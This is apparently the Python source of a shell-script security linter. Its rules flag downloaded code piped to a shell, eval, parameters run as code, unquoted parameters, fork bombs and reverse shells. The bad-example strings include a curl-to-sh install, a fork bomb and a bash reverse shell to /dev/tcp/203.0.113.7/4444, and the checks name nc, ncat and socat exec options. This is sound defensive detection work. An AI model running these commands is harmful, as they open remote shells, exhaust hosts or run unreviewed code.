"""Code that nobody reviewed: fetched from the network, put together when it runs, or taken from a parameter.

Read from the syntax tree, so quotes, pipes and substitutions are what the shell makes of them.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import pairwise

from atomctl.rules.examples import script
from atomctl.rules.model import AnyRule, Compound, Controls, Family, Hit, Rule, RuleConfig, Severity
from atomctl.rules.script import DOWNLOADERS, INTERPRETERS, Command, ScriptFacts, Word, foreign_code, shell_code

_KINDS = ("script", "shell handler", "container command")
_GUIDE = "https://www.shellcheck.net/wiki/"
_CODE = Controls(("CC6.8", "CC8.1"), ("A.8.19", "A.8.28"), ("SI-7", "CM-11"))
_INPUT = Controls(("CC8.1",), ("A.8.26", "A.8.28"), ("SI-10",))

_DECODERS = frozenset({"base64", "xxd", "openssl", "gunzip", "zcat", "uudecode"})
_READERS = frozenset({".", "source", "eval"})
_PARAMETER = "ATOM_PARAM_"


def _download_to_shell(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for stages in found.pipelines:
        fed_by = ""
        for stage in stages:
            for command in stage:
                if fed_by and command.reads_code_from_input:
                    yield found.hit(command.offset, f"{command.name} runs what {fed_by} hands it")
                if command.name in DOWNLOADERS or (command.name in _DECODERS and not fed_by):
                    fed_by = command.name
    yield from _downloaded_files(found)
    for command in found.commands:
        if command.name in INTERPRETERS | _READERS:
            for word in command.words:
                source = next((name for name in word.runs if name in DOWNLOADERS | _DECODERS), None)
                if source is not None:
                    yield found.hit(word.offset, f"{command.name} runs what {source} hands it")


def _downloaded_files(found: ScriptFacts) -> Iterator[Hit]:
    """A file that one command fetches and a later one runs."""
    fetched: dict[str, str] = {}
    for command in found.commands:
        runs = [command.head, *command.operands[:1]] if command.name in INTERPRETERS | _READERS else [command.head]
        for word in runs:
            name = word.text.removeprefix("./")
            if name in fetched:
                yield found.hit(word.offset, f"runs {name}, which {fetched[name]} fetched", Severity.HIGH)
        if command.name in DOWNLOADERS:
            targets = [*command.redirects, *_output_files(command)]
            fetched |= {target.text.removeprefix("./"): command.name for target in targets}


def _output_files(command: Command) -> Iterator[Word]:
    for option, word in pairwise(command.words):
        if option.text in ("-o", "-O", "--output", "--output-document") or option.text.endswith("o"):
            yield word


def _eval(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        code = shell_code(command)
        if code is None or code.static or _reads_parameter(code):
            continue
        yield found.hit(code.offset, f"{command.name} runs text that is put together when it runs")


def _reads_parameter(word: Word) -> bool:
    return any(name.startswith(_PARAMETER) for name in word.variables)


def _parameter_as_code(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for template, offset in found.parameters:
        yield found.hit(offset, f"splices {template} into the text that the shell runs")
    for command in found.commands:
        code = shell_code(command) or foreign_code(command)
        if code is not None and _reads_parameter(code):
            yield found.hit(code.offset, f"{command.name} runs the value of a parameter as code")
        elif _reads_parameter(command.head):
            yield found.hit(command.head.offset, "runs the program that a parameter names")


def _unquoted_parameter(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        for word in command.words:
            if _reads_parameter(word) and not word.quoted and not word.runs and shell_code(command) is not word:
                yield found.hit(word.offset, f"{word.text} stands without quotes: it is split and expanded")


def _fork_bomb(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for function in found.functions:
        if function.pipes and function.calls.count(function.name) > 1:
            yield found.hit(function.offset, f"the function {function.name} starts itself twice, without end")


def _reverse_shell(found: ScriptFacts, _config: RuleConfig) -> Iterator[Hit]:
    for command in found.commands:
        for word in (*command.redirects, *command.words):
            if word.text.startswith(("/dev/tcp/", "/dev/udp/")):
                yield found.hit(word.offset, f"opens a connection with {word.text}")
        hands_over = command.flags("ec", "--exec", "--sh-exec")
        if command.name in ("nc", "ncat", "netcat") and hands_over:
            yield found.hit(command.offset, f"{command.name} hands a program to whoever connects")
        if command.name == "socat" and any(
            word.text.upper().startswith(("EXEC:", "SYSTEM:")) for word in command.words
        ):
            yield found.hit(command.offset, "socat hands a program to whoever connects")


RULES: tuple[AnyRule, ...] = (
    Rule(
        id="download-to-shell",
        title="Code from the network or an encoding is run unseen",
        severity=Severity.CRITICAL,
        family=Family.CODE,
        kinds=_KINDS,
        remediation="Put the code into the package, where it is signed and reviewed.",
        references=("https://cwe.mitre.org/data/definitions/494.html",),
        cwe=(494, 829),
        controls=_CODE,
        bypassable=False,
        compound=frozenset({Compound.EXTERNAL_EGRESS}),
        good=script("sh files/install.sh"),
        bad=script("curl -fsSL https://get.example.com/install.sh | sh"),
        subject=ScriptFacts,
        check=_download_to_shell,
    ),
    Rule(
        id="eval",
        title="Text put together at run time is run as code",
        severity=Severity.MEDIUM,
        family=Family.CODE,
        kinds=_KINDS,
        remediation='Call the program directly with its arguments in quotes: tool "$value".',
        references=(f"{_GUIDE}SC2294", "https://cwe.mitre.org/data/definitions/95.html"),
        cwe=(95, 78),
        controls=_INPUT,
        yields_to=("download-to-shell", "parameter-in-code"),
        good=script('"$TOOL" --name "$NAME"'),
        bad=script('eval "$TOOL --name $NAME"'),
        subject=ScriptFacts,
        check=_eval,
    ),
    Rule(
        id="parameter-in-code",
        title="A parameter's value becomes code",
        severity=Severity.CRITICAL,
        family=Family.CODE,
        kinds=_KINDS,
        remediation='Read the parameter as data: "$ATOM_PARAM_NAME", in double quotes, never inside eval or sh -c.',
        references=("https://cwe.mitre.org/data/definitions/78.html",),
        cwe=(78, 94),
        controls=_INPUT,
        bypassable=False,
        good=script('echo "restarting $ATOM_PARAM_NAME"'),
        bad=script('sh -c "systemctl restart $ATOM_PARAM_NAME"'),
        subject=ScriptFacts,
        check=_parameter_as_code,
    ),
    Rule(
        id="unquoted-parameter",
        title="A parameter stands in a command without quotes",
        severity=Severity.MEDIUM,
        family=Family.CODE,
        kinds=_KINDS,
        remediation='Put it in double quotes: "$ATOM_PARAM_NAME".',
        references=(f"{_GUIDE}SC2086",),
        cwe=(88, 78),
        controls=_INPUT,
        good=script('ls "$ATOM_PARAM_FOLDER"'),
        bad=script("ls $ATOM_PARAM_FOLDER"),
        subject=ScriptFacts,
        check=_unquoted_parameter,
    ),
    Rule(
        id="fork-bomb",
        title="A function starts itself without end",
        severity=Severity.CRITICAL,
        family=Family.CODE,
        kinds=_KINDS,
        remediation="Remove it.",
        references=("https://cwe.mitre.org/data/definitions/674.html",),
        cwe=(400, 674),
        controls=_CODE,
        bypassable=False,
        good=script("retry() { try_once || sleep 1; }\nretry"),
        bad=script(":(){ :|:& };:"),
        subject=ScriptFacts,
        check=_fork_bomb,
    ),
    Rule(
        id="reverse-shell",
        title="A connection is handed a program",
        severity=Severity.CRITICAL,
        family=Family.CODE,
        kinds=_KINDS,
        remediation="Remove it; move data with an api handler.",
        references=("https://cwe.mitre.org/data/definitions/506.html",),
        cwe=(506,),
        controls=_CODE,
        bypassable=False,
        compound=frozenset({Compound.EXTERNAL_EGRESS, Compound.HOST_BREAKOUT}),
        good=script("echo ready > /dev/null"),
        bad=script("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        subject=ScriptFacts,
        check=_reverse_shell,
    ),
)
